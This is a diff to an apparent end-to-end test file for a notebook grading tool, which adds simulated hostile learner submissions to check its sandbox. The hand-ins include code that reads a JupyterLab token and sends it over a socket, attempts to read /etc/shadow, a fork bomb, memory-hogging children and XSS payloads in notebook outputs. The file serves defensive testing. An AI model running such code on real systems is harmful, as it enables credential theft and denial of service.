@@ -1,8 +1,11 @@
 """A whole class, end to end, with real kernels: init, personalize, release, collect, grade,
-feedback and report, on a synthetic class of 17 learners, most of them handing in something
+feedback and report, on a synthetic class of 23 learners, most of them handing in something
 hostile or broken. Each hostile case must get a clear line in the report, every other learner's
 grade must be what a plain sequential ``nbgrader autograde`` gives, and nothing handed in may
-be lost or changed.
+be lost or changed. The attackers try what a learner could against the trainer: the network
+(a real server on 127.0.0.1 and the token of the trainer's JupyterLab), /etc/shadow and the
+roster next to the class, /dev/shm, three 700 MB children, a fork bomb, and scripts in their
+answers for every page the trainer or a learner opens.
 
 Only exercise 00 is graded here (the heavy part); cells get a short timeout.
 """
@@ -13,6 +16,7 @@ import copy
 import csv
 import hashlib
 import json
+import os
 import shutil
 import zipfile
 from pathlib import Path
@@ -27,6 +31,7 @@ from rumbo.classroom.grade import grade_assignment, sequential_autograde
 from rumbo.classroom.personalize import personalize
 from rumbo.classroom.release import release
 from rumbo.classroom.report import make_report
+from tests.classroom_helpers import content_security_policy, fake_trainer_server
 
 pytestmark = pytest.mark.grading
 FIXTURES = Path(__file__).parent / "fixtures" / "classroom"
@@ -73,7 +78,12 @@ def with_answer(nb, grade_id: str, code: str):
     return nb
 
 
-def hand_ins(cls, outside: Path) -> dict[str, object]:
+#: What the attackers leave in pages and files, to be searched for afterwards.
+MARK = "rumbo-xss"
+SHM = f"/dev/shm/rumbo-e2e-{os.getpid()}"
+
+
+def hand_ins(cls, outside: Path, server=None, roster: Path | None = None) -> dict[str, object]:
     """Learner -> notebook or raw bytes. Answer cells are q1_answer, q2_answer, q3_answer..."""
     release_nb = nbformat.read(cls.path / "release" / A / f"{A}.ipynb", as_version=4)
     solution = nbformat.read(cls.path / "source" / A / f"{A}.ipynb", as_version=4)
@@ -113,6 +123,40 @@ def hand_ins(cls, outside: Path) -> dict[str, object]:
                      "    try:\n        open(destino, 'w').write('trampa')\n"
                      "    except OSError as error:\n        intentos.append(error)\nraise intentos[-1]")
     subs["espia"] = with_answer(full, "q2_answer", f"datos = open({str(gradebook)!r}, 'rb').read()")
+    if server is not None:
+        listener, token_file = server
+        subs["red"] = with_answer(full, "q2_answer", (
+            "import glob, json, socket\n"
+            f"fichas = glob.glob({str(token_file.parent)!r} + '/jpserver-*.json')\n"
+            "ficha = json.load(open(fichas[0]))['token'] if fichas else 'sin ficha'\n"
+            f"socket.create_connection(('127.0.0.1', {listener.port}), timeout=5).sendall(ficha.encode())"))
+    subs["sombra"] = with_answer(full, "q2_answer", (
+        "leido, fallos = [], []\n"
+        f"for ruta in [{str(roster)!r}, '/etc/shadow']:\n"
+        "    try:\n        leido.append(open(ruta).read())\n"
+        "    except OSError as error:\n        fallos.append(error)\n"
+        "print(leido)\nraise fallos[-1]"))
+    subs["compartir"] = with_answer(full, "q2_answer", full.cells[index(full, "q2_answer")].source
+                                    + f"\nopen({SHM!r}, 'w').write('para la siguiente entrega')")
+    subs["hijos"] = with_answer(full, "q2_answer", (
+        "import subprocess, sys\n"
+        "hijos = [subprocess.Popen([sys.executable, '-c', 'import time; x = bytearray(700 * 1024 ** 2); "
+        "time.sleep(3)']) for _ in range(3)]\n"
+        "codigos = [h.wait() for h in hijos]\nassert codigos == [0, 0, 0], codigos"))
+    subs["bomba"] = with_answer(full, "q2_answer", (
+        "import subprocess, sys\n"
+        "bomba = subprocess.run([sys.executable, '-c', 'import os, time\\nwhile True:\\n    if os.fork() == 0:\\n"
+        "        time.sleep(1)\\n        os._exit(0)'], capture_output=True, text=True)\n"
+        "assert bomba.returncode == 0, bomba.stderr[-200:]"))
+    script = (f"<script>document.title='{MARK}'</script><img src=x onerror=\"document.title='{MARK}'\">"
+              f"<a href=\"javascript:alert('{MARK}')\">clic</a>")
+    xss = with_answer(full, "q5_answer", f"Mi respuesta. {script} [enlace](javascript:alert('{MARK}'))")
+    xss.cells[index(xss, "q1_answer")].source += (
+        "\nfrom IPython.display import HTML, Javascript, Markdown, SVG, display\n"
+        f"display(HTML({script!r}))\ndisplay(Javascript(\"document.title='{MARK}'\"))\n"
+        f"display(Markdown({script!r}))\n"
+        f"display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(\"{MARK}\")</script></svg>'))")
+    subs["xss"] = xss
     return subs
 
 
@@ -167,13 +211,20 @@ def world(tmp_path_factory):
     base = tmp_path_factory.mktemp("clase")
     outside = base / "fuera"
     outside.mkdir()
-    cls, notes = init_class(base / "clase", FIXTURES / "alumnos_clase.csv", timeout=TIMEOUT, memory_mb=MEMORY_MB)
+    roster_file = base / "alumnos.csv"  # the trainer's roster, next to the class
+    shutil.copy(FIXTURES / "alumnos_clase.csv", roster_file)
+    with fake_trainer_server() as server:
+        yield build_world(base, outside, roster_file, server, lap)
+
+
+def build_world(base: Path, outside: Path, roster_file: Path, server, lap) -> dict:
+    cls, notes = init_class(base / "clase", roster_file, timeout=TIMEOUT, memory_mb=MEMORY_MB)
     roster = cls.roster().by_id()
     lap("init")
     personal = personalize(cls, modules=["00"], learners=["ana"], progress=False)
     lap("personalize")
     released = release(cls, A)
-    subs = hand_ins(cls, outside)
+    subs = hand_ins(cls, outside, server, roster_file)
     hostile = {k: v for k, v in subs.items() if k != "ausente"}
     zipped = base / "moodle.zip"
     lms_zip(zipped, hostile, roster)
@@ -193,7 +244,8 @@ def world(tmp_path_factory):
             shutil.rmtree(folder)
     plain = sequential_autograde(plain_dir, A, timeout=TIMEOUT)
     lap("plain nbgrader")
-    graded = grade_assignment(cls, A, timeout=TIMEOUT, memory_mb=MEMORY_MB, progress=False)
+    said: list[str] = []
+    graded = grade_assignment(cls, A, timeout=TIMEOUT, memory_mb=MEMORY_MB, progress=False, say=said.append)
     lap("grade")
     for result in sorted(graded.outcomes.values(), key=lambda o: o.student):
         print("[e2e]", result.line())
@@ -202,7 +254,8 @@ def world(tmp_path_factory):
     lap("feedback and report")
     return {"cls": cls, "notes": notes, "personal": personal, "released": released, "subs": subs,
             "first": first, "again": again, "graded": graded, "feedback": feedback, "report": report,
-            "outside": outside, "zip": zipped, "zip_bytes": zip_bytes, "plain": plain, "plain_dir": plain_dir}
+            "outside": outside, "zip": zipped, "zip_bytes": zip_bytes, "plain": plain, "plain_dir": plain_dir,
+            "server": server, "roster_file": roster_file, "said": said}
 
 
 def plain_scores(plain_dir: Path) -> dict[str, float]:
@@ -248,7 +301,7 @@ def test_init_makes_a_class_nbgrader_can_use(world):
     with Gradebook(cls.db_url, "rumbo") as gb:
         student = gb.find_student("jose")
         assert (student.first_name, student.last_name) == ("José", "Núñez Peña")
-        assert len(gb.students) == 17
+        assert len(gb.students) == len(cls.roster())
 
 
 def test_personalize_runs_the_course_with_the_learners_business(world):
@@ -261,7 +314,8 @@ def test_personalize_runs_the_course_with_the_learners_business(world):
 
 def test_release_gives_each_learner_a_folder_and_a_zip_that_names_them(world):
     cls = world["cls"]
-    assert len(world["released"].folders) == 17 and len(world["released"].zips) == 17
+    learners = len(world["cls"].roster())
+    assert len(world["released"].folders) == learners and len(world["released"].zips) == learners
     with zipfile.ZipFile(cls.path / "envios" / A / f"ana_{A}.zip") as archive:
         names = archive.namelist()
         nb = json.loads(archive.read(f"ana_{A}/{A}.ipynb"))
@@ -430,7 +484,7 @@ def test_report_csv_has_a_row_per_learner_and_says_why(world):
     cls = world["cls"]
     with open(cls.path / "informes" / "notas.csv", newline="", encoding="utf-8") as f:
         rows = {r["id"]: r for r in csv.DictReader(f)}
-    assert len(rows) == 17
+    assert len(rows) == len(cls.roster())
     assert rows["ausente"]["estado"] == "no entregado" and rows["ausente"]["nota"] == ""
     assert rows["roto"]["estado"] == "archivo ilegible" and float(rows["roto"]["nota"]) == 0
     assert "bucle sin fin" in rows["bucle"]["motivo"]
@@ -446,3 +500,113 @@ def test_dashboard_shows_distribution_questions_missing_and_incidents(world):
                  "<svg"):
         assert text in html, text
     assert html.count("<svg") >= 2
+
+
+# --- attacks on the trainer -----------------------------------------------------------------------
+
+
+def executed_text(world, learner) -> str:
+    return (world["cls"].autograded(learner, A) / f"{A}.ipynb").read_text(encoding="utf-8")
+
+
+def test_grade_says_how_kernels_are_caged_and_capped_before_it_starts(world):
+    said = " ".join(world["said"])
+    assert "Aislamiento completo" in said and "sin red" in said and "rumbo-jaula" in said
+    assert f"{MEMORY_MB} MB de memoria para todo el cuaderno" in said and "cgroup v" in said
+
+
+def test_no_connection_reaches_the_trainers_server(world):
+    listener, _token_file = world["server"]
+    assert listener.received == []
+    result = outcome(world, "red")
+    assert result.score == points(world, "q1_test", "q3_test")
+    assert "conectarse a la red" in " ".join(result.notes), result.line()
+    assert "ficha-secreta-del-formador" not in executed_text(world, "red")
+
+
+def test_system_files_and_the_roster_next_to_the_class_are_out_of_reach(world):
+    result = outcome(world, "sombra")
+    assert "sin permiso" in " ".join(result.notes), result.line()
+    text = executed_text(world, "sombra")
+    assert "root:" not in text and "Begoña" not in text and "PermissionError" in text
+
+
+def test_nothing_is_left_in_dev_shm_for_the_next_submission(world):
+    assert not Path(SHM).exists()
+    assert outcome(world, "compartir").score == top(world)
+
+
+def test_the_caps_of_the_whole_notebook_hold_and_are_recorded(world):
+    children = outcome(world, "hijos")
+    assert f"memoria de todo el cuaderno ({MEMORY_MB} MB" in " ".join(children.notes), children.line()
+    assert children.score == points(world, "q1_test", "q3_test")  # they did not all run to the end
+    bomb = outcome(world, "bomba")
+    notes = " ".join(bomb.notes)
+    assert "demasiados procesos" in notes and "límite de" in notes and "procesos a la vez" in notes, bomb.line()
+    assert bomb.score == points(world, "q1_test", "q3_test")
+
+
+def live_scripts(html: str) -> list[str]:
+    """Everything in a page that would run the attacker's code: script elements, event handlers,
+    javascript: links, whatever their nesting (SVG included)."""
+    from html.parser import HTMLParser
+
+    found: list[str] = []
+
+    class Finder(HTMLParser):
+        in_script = False
+
+        def handle_starttag(self, tag, attrs):
+            self.in_script = tag == "script"
+            for name, value in attrs:
+                if MARK in (value or "") and (name.startswith("on") or (value or "").strip().lower()
+                                              .startswith("javascript:")):
+                    found.append(f"<{tag} {name}={value}>")
+
+        def handle_endtag(self, tag):
+            self.in_script = False
+
+        def handle_data(self, data):
+            if self.in_script and MARK in data:
+                found.append(f"<script>{data}")
+
+    Finder().feed(html)
+    return found
+
+
+def formgrader_page(cls, learner: str) -> str:
+    """What the formgrader shows for a submission: nbgrader's own exporter, template and the
+    class's config, on the autograded notebook (as its SubmissionHandler does)."""
+    from nbconvert import HTMLExporter
+    from nbgrader.server_extensions.formgrader import handlers
+
+    from rumbo.classroom.folder import load_config
+
+    config = load_config(cls.config_file)
+    config.HTMLExporter.template_name = "formgrade"
+    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
+    resources = {"assignment_id": A, "notebook_id": A, "submission_id": "x", "index": 0, "total": 1,
+                 "base_url": "", "student": learner, "last_name": "Sastre", "first_name": "Xenia",
+                 "notebook_path": f"autograded/{learner}/{A}/{A}.ipynb"}
+    html, _resources = HTMLExporter(config=config).from_filename(
+        str(cls.autograded(learner, A) / f"{A}.ipynb"), resources=resources)
+    return html
+
+
+def test_no_learner_script_in_any_page_the_trainer_or_learner_opens(world):
+    from rumbo.classroom.pages import CONTENT_SECURITY_POLICY
+
+    cls = world["cls"]
+    pages = {
+        "feedback": (cls.feedback("xss", A) / f"{A}.html").read_text(encoding="utf-8"),
+        "resumen": (cls.feedback("xss", A) / "resumen.html").read_text(encoding="utf-8"),
+        "panel": (cls.path / "informes" / "panel.html").read_text(encoding="utf-8"),
+        "formgrader": formgrader_page(cls, "xss"),
+    }
+    for name, html in pages.items():
+        assert live_scripts(html) == [], name
+    assert "Mi respuesta." in pages["formgrader"] and "Mi respuesta." in pages["feedback"]
+    assert "&lt;script&gt;" in pages["formgrader"]  # the attempt stays visible, as text
+    for name in ("feedback", "resumen", "panel"):
+        assert content_security_policy(pages[name]) == CONTENT_SECURITY_POLICY, name
+    assert outcome(world, "xss").score == top(world)
